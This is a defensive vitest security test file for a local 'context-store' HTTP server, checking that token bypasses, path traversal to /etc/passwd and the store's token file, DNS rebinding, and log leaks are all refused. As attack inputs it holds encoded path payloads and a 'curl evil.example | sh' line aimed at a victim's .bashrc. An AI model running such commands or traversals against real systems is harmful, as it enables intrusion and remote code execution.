/**
 * The issue's findings tried again as an attacker on the same machine would: the real `context-store serve`,
 * plain HTTP, no test-only entry points. Each test is the attack; it passes because the attack no longer works.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { raw, tempDir } from '../server/helpers.ts';
import { startServe, type ServeProcess } from './serve-process.ts';

const mode = (file: string) => fs.statSync(file).mode & 0o777;
let dir: string;
let dataDir: string;
let serve: ServeProcess;

beforeAll(async () => {
  dir = tempDir('cs-sec-attack-');
  // A data folder serve creates itself (`--db` in a folder that does not exist yet), as a first run does.
  dataDir = path.join(dir, 'data');
  const previous = process.umask(0o022);
  try {
    serve = await startServe(path.join(dataDir, 'store.db'), ['--allow-dir', dir]);
  } finally {
    process.umask(previous);
  }
}, 90_000);
afterAll(async () => {
  await serve?.stop();
  fs.rmSync(dir, { recursive: true, force: true });
});

describe.skipIf(process.platform === 'win32')('what another local user can list or read', () => {
  it('the data folder serve created, and its log folder, are 0700 (the logger made them 0755 before the store narrowed only its files)', () => {
    expect(mode(dataDir).toString(8)).toBe('700');
    expect(mode(path.join(dataDir, 'logs')).toString(8)).toBe('700');
    for (const f of ['store.db', 'store.db.api-token', 'logs/context-store.log']) expect(mode(path.join(dataDir, f)).toString(8), f).toBe('600');
  });
});

const json = (token: string | undefined, extra: Record<string, string> = {}) => ({
  ...(token ? { Authorization: `Bearer ${token}` } : {}),
  'Content-Type': 'application/json',
  ...extra,
});
const rpc = (name: string, body: unknown, token: string | undefined = serve.info.token, extra: Record<string, string> = {}) =>
  raw(serve.info.url, 'POST', `/api/rpc/${name}`, { headers: json(token, extra), body: JSON.stringify(body) });

describe('no way around the token', () => {
  const variants = [
    '/%61pi',
    '/ap%69',
    '/%61%70%69',
    '/%2561pi',
    '//api',
    '/./api',
    '/API',
    '/Api',
    '/api/./',
    '/api/x/..',
    '/api%2f',
    '/api/rpc/../rpc',
    '\\api',
    '/api;',
  ];
  it('no path spelling reaches an API route without the token', async () => {
    const answered: string[] = [];
    for (const prefix of variants) {
      for (const [method, rest] of [
        ['POST', '/rpc/getStats'],
        ['GET', '/data-migration/operations/history'],
        ['GET', '/events'],
      ] as const) {
        const p = prefix.endsWith('/') ? prefix + rest.slice(1) : prefix + rest;
        const res = await raw(serve.info.url, method, p, method === 'POST' ? { headers: { 'Content-Type': 'application/json' }, body: '{}' } : {}).catch(
          () => ({ status: 0, text: '' }),
        );
        if ((res.status >= 200 && res.status < 300) || /"contexts"|"operationId"|event:/.test(res.text)) answered.push(`${method} ${p} → ${res.status}`);
      }
    }
    for (const p of ['/api/rpc/getStats/', '/api/rpc/%67etStats', '/api/rpc/getStats%00', '/api/rpc/getStats?x=1', '/api/rpc/getStats#x']) {
      // A connection the server drops (a NUL in the path) is a refusal too.
      const res = await raw(serve.info.url, 'POST', p, { headers: { 'Content-Type': 'application/json' }, body: '{}' }).catch(() => ({ status: 0 }));
      if (res.status >= 200 && res.status < 300) answered.push(`POST ${p} → ${res.status}`);
    }
    for (const method of ['HEAD', 'OPTIONS']) {
      const res = await raw(serve.info.url, method, '/api/data-migration/operations/history');
      if (res.status >= 200 && res.status < 300) answered.push(`${method} history → ${res.status}`);
    }
    expect(answered).toEqual([]);
  });

  it('the token is taken only from the Authorization header: not a query string, a cookie or Basic auth', async () => {
    const t = serve.info.token;
    const attempts: { path: string; headers: Record<string, string> }[] = [
      { path: `/api/rpc/getStats?token=${t}`, headers: {} },
      { path: `/api/rpc/getStats?access_token=${t}`, headers: {} },
      { path: '/api/rpc/getStats', headers: { Cookie: `token=${t}` } },
      { path: '/api/rpc/getStats', headers: { Authorization: `Basic ${Buffer.from(`x:${t}`).toString('base64')}` } },
      { path: '/api/rpc/getStats', headers: { Authorization: `Bearer ${t}x` } },
      { path: '/api/rpc/getStats', headers: { Authorization: `Bearer ${t.slice(0, -1)}` } },
    ];
    for (const attempt of attempts) {
      const res = await raw(serve.info.url, 'POST', attempt.path, { headers: { 'Content-Type': 'application/json', ...attempt.headers }, body: '{}' });
      expect(res.status, attempt.path + JSON.stringify(attempt.headers).slice(0, 30)).toBe(401);
    }
  });

  it('the page, a deep link and the 404 page hold no token', async () => {
    for (const p of ['/', '/index.html', '/some/deep/link', '/nope.js', '/favicon.ico']) {
      const res = await raw(serve.info.url, 'GET', p, { headers: { Accept: 'text/html' } });
      expect(res.text, p).not.toContain(serve.info.token);
      expect(JSON.stringify(res.headers), p).not.toContain(serve.info.token);
    }
  });

  it('another site in the browser (DNS rebinding, a foreign Origin, a form post) is refused even with the token', async () => {
    const t = serve.info.token;
    expect((await raw(serve.info.url, 'POST', '/api/rpc/getStats', { headers: json(t, { Host: `evil.example:${serve.info.port}` }), body: '{}' })).status).toBe(
      403,
    );
    expect((await raw(serve.info.url, 'POST', '/api/rpc/getStats', { headers: json(t, { Origin: 'http://evil.example' }), body: '{}' })).status).toBe(403);
    expect((await raw(serve.info.url, 'POST', '/api/rpc/getStats', { headers: json(t, { 'Sec-Fetch-Site': 'cross-site' }), body: '{}' })).status).toBe(403);
    expect(
      (await raw(serve.info.url, 'POST', '/api/rpc/getStats', { headers: { Authorization: `Bearer ${t}`, 'Content-Type': 'text/plain' }, body: '{}' })).status,
    ).toBe(415);
    expect(
      (
        await raw(serve.info.url, 'POST', '/api/rpc/getStats', {
          headers: { Authorization: `Bearer ${t}`, 'Content-Type': 'application/x-www-form-urlencoded' },
          body: 'a=1',
        })
      ).status,
    ).toBe(415);
  });

  it('a huge or malformed Authorization header is refused cleanly (no 500, the server stays up)', async () => {
    const huge = await raw(serve.info.url, 'POST', '/api/rpc/getStats', { headers: json('x'.repeat(200_000)), body: '{}' }).catch(() => ({ status: 0 }));
    expect([401, 431, 0]).toContain(huge.status);
    expect((await raw(serve.info.url, 'POST', '/api/rpc/getStats', { headers: json(undefined, { Authorization: 'Bearer' }), body: '{}' })).status).toBe(401);
    expect((await rpc('getStats', {})).status).toBe(200);
  });
});

describe('REST reaches only its own files', () => {
  let importToken: string;
  beforeAll(async () => {
    const { cli } = await import('../cli-helpers.ts');
    const made = cli(['--db', path.join(dataDir, 'store.db'), 'tokens', 'create', '--name', 'feeder', '--scope', 'import', '--json']);
    expect(made.code, made.stderr).toBe(0);
    importToken = made.json<{ token: string }>().token;
  }, 60_000);

  it("an import token cannot read the store's own files through an allowed folder that holds them (token file, store, logs)", async () => {
    // The user allowed a folder that happens to contain the data folder (`serve --allow-dir ~`, say).
    const secret = fs.readFileSync(path.join(dataDir, 'store.db.api-token'), 'utf8').trim();
    for (const file of ['store.db.api-token', 'store.db', 'store.db-wal', 'logs/context-store.log']) {
      for (const [call, body] of [
        ['inspectFile', { file: path.join(dataDir, file), options: {} }],
        ['validateFile', { files: [path.join(dataDir, file)], options: { format: 'csv', dataType: 'contexts' } }],
        ['importData', { files: [path.join(dataDir, file)], options: { format: 'csv', dataType: 'contexts', dryRun: true } }],
      ] as const) {
        const res = await rpc(call, body, importToken);
        expect(res.status, `${call} ${file}`).toBe(403);
        expect(res.text).not.toContain(secret);
      }
    }
    // Through a symlink or `..` from the allowed folder as well.
    fs.symlinkSync(path.join(dataDir, 'store.db.api-token'), path.join(dir, 'innocent.csv'));
    expect((await rpc('inspectFile', { file: path.join(dir, 'innocent.csv'), options: {} }, importToken)).status).toBe(403);
    expect((await rpc('inspectFile', { file: path.join(dir, 'x', '..', 'data', 'store.db.api-token'), options: {} }, importToken)).status).toBe(403);
    // The admin token cannot either, and a plain file in the allowed folder still reads.
    expect((await rpc('inspectFile', { file: path.join(dataDir, 'store.db.api-token'), options: {} })).status).toBe(403);
    fs.writeFileSync(path.join(dir, 'plain.csv'), 'id,title\n1,a\n');
    expect((await rpc('inspectFile', { file: path.join(dir, 'plain.csv'), options: {} }, importToken)).status).toBe(200);
  });

  it('an import token cannot read the exports (store contents) through an allowed folder either', async () => {
    const exp = await rpc('exportData', { options: { dataType: 'contexts', format: 'json' } });
    expect(exp.status).toBe(200);
    const file = exp.json.value.filePath ?? exp.json.value.files?.[0]?.path ?? exp.json.value.outputPath;
    expect(typeof file).toBe('string');
    expect((await rpc('inspectFile', { file, options: {} }, importToken)).status).toBe(403);
    expect((await rpc('inspectFile', { file, options: {} })).status).toBe(200);
  });

  it("an import's rejectsPath cannot write outside the export folder (it wrote the rejected records, attacker's text, anywhere)", async () => {
    const bad = path.join(dir, 'bad.jsonl');
    fs.writeFileSync(bad, JSON.stringify({ id: 'r1', note: 'curl evil.example | sh' }) + '\n');
    const target = path.join(dir, 'victim', '.bashrc');
    fs.mkdirSync(path.dirname(target));
    fs.writeFileSync(target, 'echo hello\n');
    const res = await rpc('importData', { files: [bad], options: { errorHandling: 'lenient', rejectsPath: target } }, importToken);
    expect(res.status).toBe(403);
    expect(fs.readFileSync(target, 'utf8')).toBe('echo hello\n');
    // A plain name lands in the export folder, as an export's would.
    const named = await rpc('importData', { files: [bad], options: { errorHandling: 'lenient', rejectsPath: 'rejects.jsonl' } }, importToken);
    expect(named.status).toBe(200);
    expect(named.json.value.rejects.path).toBe(path.join(fs.realpathSync(dataDir), 'exports', 'rejects.jsonl'));
  });

  it('inspectFile of /etc/passwd, and a download id that is a path, are refused', async () => {
    const res = await rpc('inspectFile', { file: '/etc/passwd', options: {} });
    expect(res.status).toBe(403);
    expect(res.text).not.toContain('root:');
    for (const id of ['..%2F..%2F..%2Fetc%2Fpasswd', '%2Fetc%2Fpasswd', '..']) {
      const dl = await raw(serve.info.url, 'GET', `/api/data-migration/exports/${id}/download`, { headers: { Authorization: `Bearer ${serve.info.token}` } });
      expect(dl.status, id).toBe(404);
      expect(dl.text).not.toContain('root:');
    }
  });
});

describe('bad input and secrets', () => {
  it('a JSON body nested 200,000 levels is a 400, and the server keeps answering', async () => {
    const deep = '['.repeat(200_000) + ']'.repeat(200_000);
    const res = await raw(serve.info.url, 'POST', '/api/rpc/getStats', { headers: json(serve.info.token), body: deep });
    expect([400, 413]).toContain(res.status);
    expect(res.text).not.toMatch(/call stack/i);
    expect((await rpc('getStats', {})).status).toBe(200);
  });

  it('a passphrase sent over REST never reaches the answer, history or the log file; plaintext under it is refused', async () => {
    const passphrase = 'correct horse battery staple 13';
    const plain = path.join(dir, 'plain.jsonl.enc');
    fs.writeFileSync(
      plain,
      JSON.stringify({ id: 'p1', title: 't', content: 'c', type: 'note', tags: [], sessionId: null, createdAt: '2024-01-01T00:00:00.000Z', metadata: {} }) +
        '\n',
    );
    const res = await rpc('importData', { files: [plain], options: { passphrase } });
    expect(res.status).toBe(200);
    expect(res.json.value.status).toBe('failed');
    expect(res.json.value.error.message).toMatch(/not encrypted/i);
    expect(res.text).not.toContain(passphrase);
    const history = await raw(serve.info.url, 'GET', '/api/data-migration/operations/history', { headers: { Authorization: `Bearer ${serve.info.token}` } });
    expect(history.text).not.toContain(passphrase);
    expect((await rpc('getStats', {})).json.value.contexts ?? 0).toBe(0);
    const logs = fs
      .readdirSync(path.join(dataDir, 'logs'))
      .map((f) => fs.readFileSync(path.join(dataDir, 'logs', f), 'utf8'))
      .join('');
    expect(logs).not.toContain(passphrase);
    expect(logs).not.toContain(serve.info.token);
  });
});

it('serve refuses a CONTEXT_STORE_TOKEN shorter than 32 characters (exit 2, the token not echoed)', async () => {
  const { spawnSync } = await import('node:child_process');
  const { BIN } = await import('./serve-process.ts');
  const run = spawnSync(process.execPath, [BIN, '--db', path.join(dir, 'short.db'), 'serve', '--port', '0'], {
    encoding: 'utf8',
    env: { ...process.env, CONTEXT_STORE_TOKEN: 'hunter2hunter2' },
    timeout: 60_000,
  });
  expect(run.status).toBe(2);
  expect(run.stderr).toMatch(/32/);
  expect(run.stderr + run.stdout).not.toContain('hunter2hunter2');
}, 60_000);
